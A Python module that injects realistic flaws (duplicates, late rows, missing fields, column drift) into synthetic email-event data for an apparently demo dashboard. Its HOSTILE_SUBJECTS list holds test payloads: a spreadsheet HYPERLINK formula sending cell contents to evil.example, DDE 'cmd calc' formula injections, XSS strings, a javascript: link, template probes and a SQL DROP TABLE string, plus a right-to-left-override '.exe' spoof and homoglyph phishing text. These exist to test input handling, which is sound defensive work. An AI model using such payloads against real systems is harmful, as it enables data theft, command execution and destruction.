"""What real data is never free of: duplicates, late rows, missing values, hostile subjects, drifting columns.

About one row in a hundred is touched. No verdict, id or time of a message changes, so that expected numbers stand.
"""

import numpy as np
import pyarrow as pa

from dashapp.demo.day import Day
from dashapp.demo.plan import Plan
from dashapp.demo.rows import INBOUND, Array, Mess, Rows
from dashapp.demo.tables import Rendered

_HOUR = 3_600_000_000


_SHARES = {
    Mess.NO_DISPLAY_NAME: 0.0015,
    Mess.SHOUTED_RECIPIENT: 0.003,
    Mess.LATE: 0.003,
    Mess.HOSTILE_SUBJECT: 0.0015,
    Mess.LONG_URL: 0.0004,
    Mess.NO_SUBJECT: 0.001,
    Mess.NO_ADDRESS: 0.0008,
    Mess.NEW_WORD: 0.0005,
}
_DUPLICATES = 0.003
HOSTILE_SUBJECTS = (
    '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "<script>alert(document.domain)</script>",
    "<img src=x onerror=alert(1)>",
    "[Open the invoice](javascript:alert(1))",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "'; DROP TABLE EmailEvents; --",
    "=?utf-8?B?UmVjaG51bmcgZsO8ciBNw6Ryeg==?=",
    "=?iso-8859-1?Q?Best=E4tigung_erforderlich?=",
    "\u0420\u0430\u0443\u0440\u0430l: \u0443\u043eur \u0430\u0441\u0441\u043eunt is limit\u0435d",  # Cyrillic letters
    "Invoice \u202egpj.exe\u202c attached",
    "Pay\u200broll\u200b up\u200bdate",
    "Your parcel 📦 is waiting 🚚🚚🚚",
    "تأكيد الحساب مطلوب",
    "請確認您的帳戶",
    "Z̸̢̛a̷l̶g̵o̴ invoice",
    "Re: " * 60 + "final final",
    "A" * 900,
    "%s%s%n %00 null",
    "line one\u2028line two",
    '"quoted", comma; semicolon | pipe',
)


def make_mess(day: Day) -> None:
    """Touch some rows of a day, and append its duplicates; planted and simulated rows are left alone."""
    random = day.plan.random("mess", day.date)
    rows = day.rows
    edges = np.cumsum(list(_SHARES.values()))
    chosen = np.searchsorted(edges, random.random(len(rows)), side="right")
    kinds = np.array([*_SHARES, Mess.NONE])[chosen]
    kinds[(rows["planted"] > 0) | rows["simulation"]] = Mess.NONE
    # an address is a fact of the whole message, and only mail from outside loses it
    kinds[(kinds == Mess.NO_ADDRESS) & (rows["direction"] != INBOUND)] = Mess.NONE
    rows["mess"] = kinds
    long = np.isin(rows["message"], rows["message"][kinds == Mess.LONG_URL]) & (rows["planted"] == 0)
    rows["mess"][long] = Mess.LONG_URL
    _subjects(day, random)
    late = rows["mess"] == Mess.LATE
    rows["arrival"][late] += (_HOUR * (0.5 + 9 * random.random(int(late.sum())))).astype(np.int64)
    lost = rows["mess"] == Mess.NO_ADDRESS
    rows["ip"][lost] = -1
    rows["network"][lost] = -1
    day.rows = Rows.concat([rows, _duplicates(random, rows)])


def _subjects(day: Day, random: np.random.Generator) -> None:
    rows = day.rows
    first = day.subjects.add(HOSTILE_SUBJECTS)
    hostile = np.flatnonzero(rows["mess"] == Mess.HOSTILE_SUBJECT)
    rows["subject"][hostile] = first + random.integers(0, len(HOSTILE_SUBJECTS), len(hostile))
    rows["subject"][rows["mess"] == Mess.NO_SUBJECT] = -1
    rows["salt"][np.isin(rows["mess"], (Mess.HOSTILE_SUBJECT, Mess.NO_SUBJECT))] = 0


def _duplicates(random: np.random.Generator, rows: Rows) -> Rows:
    again = (random.random(len(rows)) < _DUPLICATES) & (rows["planted"] == 0) & ~rows["simulation"]
    twins = rows.take(np.flatnonzero(again))
    twins["duplicate"] = np.full(len(twins), True)
    twins["arrival"] = twins["arrival"] + (_HOUR * 20 * random.random(len(twins)) ** 3).astype(np.int64)
    return twins


def drift(plan: Plan, number: int, rendered: Rendered) -> Rendered:
    """Return EmailEvents as a source sends it on some days: a column short, or one too many.

    Args:
        plan: Gives the days.
        number: Ordinal of the day.
        rendered: As it should be.
    """
    table = rendered.table
    if (number + plan.seed) % 11 == 0:
        table = table.drop_columns(["ForwardingInformation", "LatestDeliveryLocation", "LatestDeliveryAction"])
    if (number + plan.seed) % 13 == 0:
        names: Array = np.full(len(rendered.arrival), "Europe/London")
        table = table.append_column("RecipientTimeZone", pa.array(names.tolist(), pa.string()))
    return Rendered(table, rendered.arrival)
